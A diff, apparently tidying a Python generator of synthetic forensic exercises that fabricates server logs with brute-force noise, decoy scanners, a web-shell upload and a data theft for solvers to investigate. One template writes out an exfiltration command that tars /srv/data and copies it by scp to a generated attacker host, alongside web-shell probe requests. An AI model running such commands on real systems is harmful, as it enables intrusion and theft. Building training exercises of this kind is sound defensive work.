@@ -50,9 +50,8 @@ class Server:
 def build(dice: Dice, level: int) -> Case:
     """Tell the story and its questions."""
     start = datetime(2026, dice.between(1, 8), dice.between(1, 20), tzinfo=UTC)
-    server = Server(
-        dice, f"{dice.word(5)}-srv{dice.between(1, 9)}", [n.lower() for n in dice.pick_some(FIRST_NAMES, 6)]
-    )
+    name = f"{dice.word(5)}-srv{dice.between(1, 9)}"
+    server = Server(dice, name, [person.lower() for person in dice.pick_some(FIRST_NAMES, 6)])
     night = start + timedelta(days=DAYS[level] - 1, seconds=dice.between(3600, 5 * 3600))
     entry, stay, theft = dice.pick(ENTRIES), dice.pick(STAYS), dice.pick(THEFTS)
     _quiet(server, start, DAYS[level])
@@ -84,9 +83,8 @@ def _quiet(server: Server, start: datetime, days: int) -> None:
         if dice.below(3):
             server.sshd(when, f"Accepted publickey for {dice.pick(server.people)}", f"198.51.100.{dice.between(2, 40)}")
         else:
-            server.sshd(
-                when, f"Failed password for invalid user {dice.pick(GUESSES)}", f"192.0.2.{dice.between(2, 250)}"
-            )
+            guess = f"Failed password for invalid user {dice.pick(GUESSES)}"
+            server.sshd(when, guess, f"192.0.2.{dice.between(2, 250)}")
     for when in working_days(dice, start, days, REQUESTS_A_DAY):
         line = f"GET /{dice.pick(FOLDERS)}/{dice.pick(STEMS)}{dice.between(1, 90)}.html"
         server.request(when, f"198.51.100.{dice.between(2, 250)}", line, 200 if dice.below(12) else 404)
@@ -106,9 +104,8 @@ def _decoys(server: Server, start: datetime, days: int) -> None:
     loud, traveller, scanner = (f"203.0.113.{n}" for n in dice.pick_some(range(2, 250), 3))
     for when in working_days(dice, start, days, 30):
         server.sshd(when, f"Failed password for {dice.pick([*server.people, 'root'])}", loud)
-        server.request(
-            when, scanner, f"GET /{dice.pick(('wp', 'xmlrpc', 'shell', 'cmd', 'up'))}{dice.word(3)}.php?c=id", 404
-        )
+        shell = f"{dice.pick(('wp', 'xmlrpc', 'shell', 'cmd', 'up'))}{dice.word(3)}"
+        server.request(when, scanner, f"GET /{shell}.php?c=id", 404)
     person, admin = server.people[1], server.people[2]
     for when in working_days(dice, start, days, 2):
         server.sshd(when, f"Accepted password for {person}", traveller)
@@ -128,10 +125,9 @@ def _entry(server: Server, entry: str, night: datetime, seen: str, outside: str)
                  level=3 if seen != outside else 1)]  # fmt: skip
     when = night
     if entry == "upload":
-        path = (
-            f"/{dice.pick(('uploads', 'media', 'assets'))}/{dice.pick(('thumb', 'cache', 'avatar'))}_{dice.word(4)}.php"
-        )
-        server.request(when, seen, f"POST {path.rsplit('/', 1)[0]}/", 201)
+        folder = dice.pick(("uploads", "media", "assets"))
+        path = f"/{folder}/{dice.pick(('thumb', 'cache', 'avatar'))}_{dice.word(4)}.php"
+        server.request(when, seen, f"POST /{folder}/", 201)
         count = dice.between(6, 25)
         for _ in range(count):
             when += timedelta(seconds=dice.between(3, 50))
@@ -205,7 +201,7 @@ def _theft(server: Server, theft: str, when: datetime, seen: str, outside: str, 
     """Take an archive away."""
     dice, victim = server.dice, server.people[0]
     archive, size = f"{dice.pick(STEMS)}_{dice.word(4)}.tgz", dice.between(100_000, 9_000_000)
-    target = f"{bad_host(dice)}"
+    target = bad_host(dice)
     packed = f"/tmp/{archive}"
     lines = {
         "scp": f"tar czf {packed} /srv/data && scp {packed} drop@{target}:in/ && rm {packed}",
@@ -230,13 +226,13 @@ def _theft(server: Server, theft: str, when: datetime, seen: str, outside: str, 
 
 def _evidence(server: Server, start: datetime) -> tuple[bytes, ...]:
     login = [f"{when:%Y-%m-%dT%H:%M:%S}+00:00 {server.name} {text}" for when, text in sorted(server.login)]
+    people = enumerate(server.people, start=1000)
+    accounts = [f"{name}:x:{uid}:{uid}::/home/{name}:/bin/bash" for uid, name in people]
     files = {
         **server.files,
         "var/log/auth.log": _lines(login),
         "var/log/nginx/access.log": _lines([text for _, text in sorted(server.web)]),
-        "etc/passwd": _lines(
-            [f"{name}:x:{1000 + n}:{1000 + n}::/home/{name}:/bin/bash" for n, name in enumerate(server.people)]
-        ),
+        "etc/passwd": _lines(accounts),
     }
     return packed(files, start), dated(sorted(server.flows))
 
